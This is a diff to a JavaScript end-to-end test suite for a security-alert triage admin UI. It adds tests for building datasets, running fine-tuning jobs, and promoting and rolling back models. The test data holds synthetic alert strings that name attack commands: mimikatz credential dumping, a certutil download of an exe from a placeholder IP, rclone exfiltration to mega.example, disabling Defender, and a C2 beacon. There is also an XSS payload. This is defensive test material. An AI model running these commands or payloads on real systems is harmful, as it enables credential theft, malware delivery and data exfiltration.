@@ -18,8 +18,23 @@ const ALERTS = [
   'Alert: new local admin account "svc_backup2" created on DC-02 outside change window',
   'Alert: nightly backup job ran robocopy to the NAS as scheduled, signed binary',
 ];
+// More of the everyday queue, so a dataset has enough examples to train on.
+const MORE = [
+  ['mimikatz sekurlsa::logonpasswords run on', 'credential dumping'],
+  ['certutil -urlcache -split -f http://198.51.100.7/a.exe on', 'download cradle'],
+  ['WMI remote process creation wmic /node from', 'lateral movement'],
+  ['rclone copy of the finance share to mega.example from', 'exfiltration'],
+  ['new Run key HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run updater.exe on', 'persistence'],
+  ['Windows Defender real-time protection disabled by Set-MpPreference on', 'defense evasion'],
+  ['net group "domain admins" /domain and nltest /dclist run on', 'discovery'],
+  ['encrypted files with ransom note README_RESTORE.txt appearing on', 'ransomware'],
+  ['beacon every 60 s with jitter to 203.0.113.50:443 from', 'command and control'],
+  ['user reported a phishing mail with a QR code to a fake login page on', 'phishing'],
+].map(([what, why], i) => `Alert (${why}): ${what} host SRV-${String(i + 20).padStart(3, '0')}, first seen today`);
 const XSS = 'Suspicious mail body: <img src=x onerror=window.__xss=1> and <script>window.__xss=1</script> end';
 
+const TOTAL = ALERTS.length + MORE.length + 1;
+let dataset, job;
 let stack, api, analystApi, browser, page, problems;
 
 describe('admin UI', { timeout: 240000 }, () => {
@@ -29,11 +44,12 @@ describe('admin UI', { timeout: 240000 }, () => {
     analystApi = adminApi(stack.url, stack.keys.analyst);
     // Newest first in the queue: the XSS one last, the LSASS alert on top.
     await chat(stack.url, stack.keys.client, XSS, { user: 'mallory' });
+    for (const [i, text] of MORE.entries()) await chat(stack.url, stack.keys.client, text, { user: `analyst-${i % 3}` });
     for (const [i, text] of [...ALERTS.entries()].reverse()) await chat(stack.url, stack.keys.client, text, { user: `analyst-${i % 3}` });
     // Capture is off the hot path: wait until every conversation is stored.
     for (let i = 0; i < 100; i++) {
       const list = await api('/conversations?limit=50');
-      if (list.body.data.length === ALERTS.length + 1) break;
+      if (list.body.data.length === TOTAL) break;
       await new Promise((r) => setTimeout(r, 100));
     }
     browser = await launchBrowser();
@@ -66,7 +82,7 @@ describe('admin UI', { timeout: 240000 }, () => {
     await page.goto(`${stack.url}/admin/#/overview`);
     const total = page.locator('.tile-total .tile-value');
     await total.waitFor();
-    assert.equal(await total.textContent(), String(ALERTS.length + 1));
+    assert.equal(await total.textContent(), String(TOTAL));
     await page.getByText('No evaluation yet.').waitFor();
     await page.locator('.traffic', { hasText: 'triage' }).getByText('100 %').waitFor();
     await page.getByText('No open alerts.').waitFor();
@@ -171,6 +187,60 @@ describe('admin UI', { timeout: 240000 }, () => {
     await shot(page, '06-conversation');
   });
 
+
+  test('datasets: approve the rest in bulk, build a snapshot, read its report, download the JSONL', async (t) => {
+    if ((await api('/datasets')).status === 404) { t.skip('this build has no datasets route yet'); return; }
+    await page.goto(`${stack.url}/admin/#/review?status=pending`);
+    await page.locator('.queue-item').first().waitFor();
+    await page.check('.bulk input[type=checkbox]');
+    await page.click('[data-test=bulk-approve]');
+    await page.getByText(/conversations approved/).waitFor();
+    assert.equal((await api('/stats')).body.approved, TOTAL - 1);
+
+    await page.goto(`${stack.url}/admin/#/datasets`);
+    await page.fill('input[name=name]', 'triage-from-the-ui');
+    await page.selectOption('select[name=min_quality]', '');
+    await page.click('[data-test=build]');
+    await page.waitForURL(/#\/datasets\/ds_/);
+    const id = decodeURIComponent(page.url().split('#/datasets/')[1]);
+    dataset = (await api(`/datasets/${id}`)).body;
+    assert.equal(dataset.name, 'triage-from-the-ui');
+    assert.equal(dataset.counts.candidates, TOTAL - 1);
+    assert.ok(dataset.ready_for_training, `ready: ${JSON.stringify(dataset.problems)}`);
+    await page.locator('.badge', { hasText: 'ready for training' }).waitFor();
+    await page.locator('.tile', { hasText: 'train' }).first().waitFor();
+    assert.equal(await page.locator('.tile', { hasText: /^train/ }).locator('.tile-value').textContent(), String(dataset.counts.train));
+    for (const r of dataset.rejections) await page.locator('td', { hasText: r.reason }).first().waitFor();
+    const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-test=download-train]')]);
+    const { readFile } = await import('node:fs/promises');
+    const lines = (await readFile(await download.path(), 'utf8')).trim().split('\n');
+    assert.equal(lines.length, dataset.counts.train);
+    assert.ok(Array.isArray(JSON.parse(lines[0]).messages));
+    await shot(page, '12-dataset-report');
+  });
+
+  test('fine-tuning: start a job from the dataset and watch it succeed', async (t) => {
+    if (!dataset || (await api('/fine-tuning/jobs')).status === 404) { t.skip('this build has no fine-tuning jobs route (or no dataset) yet'); return; }
+    await page.goto(`${stack.url}/admin/#/jobs?dataset=${dataset.id}`);
+    await page.fill('input[name=suffix]', 'ui');
+    await page.fill('input[name=n_epochs]', '2');
+    await page.click('[data-test=start-job]');
+    await page.waitForURL(/#\/jobs\/job_/);
+    await page.locator('[data-test=job-status]', { hasText: 'succeeded' }).waitFor({ timeout: 60000 });
+    const id = decodeURIComponent(page.url().split('#/jobs/')[1]);
+    job = (await api(`/fine-tuning/jobs/${id}`)).body;
+    assert.equal(job.status, 'succeeded');
+    assert.equal(job.dataset_id, dataset.id);
+    assert.equal(job.hyperparameters.n_epochs, 2);
+    assert.ok(job.registered_version, 'the model is registered as a version');
+    await page.locator('[data-test=registered-version]', { hasText: job.registered_version }).waitFor();
+    await page.locator('.event').first().waitFor();
+    await shot(page, '13-fine-tuning-job');
+    await page.goto(`${stack.url}/admin/#/jobs`);
+    await page.locator('td', { hasText: job.id }).waitFor();
+    await shot(page, '13-fine-tuning');
+  });
+
   test('models: register, traffic with If-Match and a 409 in words, promote, roll back, history', async () => {
     await page.goto(`${stack.url}/admin/#/models/triage`);
     await page.locator('.traffic-editor').waitFor();
@@ -229,6 +299,30 @@ describe('admin UI', { timeout: 240000 }, () => {
     await shot(page, '09-models');
   });
 
+
+  test('the fine-tuned version is promoted, then rolled back', async (t) => {
+    if (!job) { t.skip('no fine-tuning job ran in this build'); return; }
+    const version = job.registered_version;
+    await page.goto(`${stack.url}/admin/#/models/triage`);
+    await page.locator(`tr[data-version="${version}"]`).waitFor();
+    await page.click(`[data-test="promote-${version}"]`);
+    await page.fill('#ask-reason', 'fine-tuned on the reviewed queue');
+    await page.click('#ask-ok');
+    await page.getByText(`${version} is production.`).waitFor();
+    assert.equal((await api('/models/triage')).body.production, version);
+    const answered = await chat(stack.url, stack.keys.client, 'Alert: mimikatz sekurlsa::logonpasswords run on host SRV-099', { user: 'after-promotion' });
+    assert.equal(answered.variant, version, 'the promoted version serves at once');
+    await page.locator('.page-head', { hasText: version }).waitFor();
+    await shot(page, '09-model-promoted');
+    await page.click('[data-test=rollback]');
+    await page.fill('#ask-reason', 'back to base while the canary is read');
+    await page.click('#ask-ok');
+    await page.getByText('Rolled back: ').waitFor();
+    const alias = (await api('/models/triage')).body;
+    assert.equal(alias.production, 'base');
+    assert.equal(alias.versions.find((v) => v.name === version).state, 'retired');
+  });
+
   test('keys and the audit log (admin)', async () => {
     await page.goto(`${stack.url}/admin/#/keys`);
     await page.fill('form.form-row input[name=name]', 'night shift');
@@ -245,8 +339,8 @@ describe('admin UI', { timeout: 240000 }, () => {
     await shot(page, '11-audit');
   });
 
-  test('pages whose backend is not there yet say so in words', async () => {
-    for (const [hash, name] of [['#/datasets', '12-datasets'], ['#/jobs', '13-fine-tuning'], ['#/performance', '14-performance']]) {
+  test('datasets, fine-tuning and performance pages load (and say so in words where a backend is missing)', async () => {
+    for (const [hash, name] of [['#/datasets', '12-datasets'], ['#/jobs', '13-fine-tuning-list'], ['#/performance', '14-performance']]) {
       await page.goto(`${stack.url}/admin/${hash}`);
       await page.locator('.card').first().waitFor();
       await page.waitForFunction(() => !document.querySelector('.state-loading'));
@@ -295,7 +389,7 @@ describe('admin UI', { timeout: 240000 }, () => {
     await a.goto(`${stack.url}/admin/#/keys`);
     await a.getByText('This page needs an admin key.').waitFor();
     // Reviewing is theirs to do.
-    await a.goto(`${stack.url}/admin/#/review?status=pending`);
+    await a.goto(`${stack.url}/admin/#/review?status=any`);
     await a.locator('.conversation').waitFor();
     const id = await a.locator('.queue-item.selected').getAttribute('data-id');
     await a.locator('body').click({ position: { x: 5, y: 5 } });
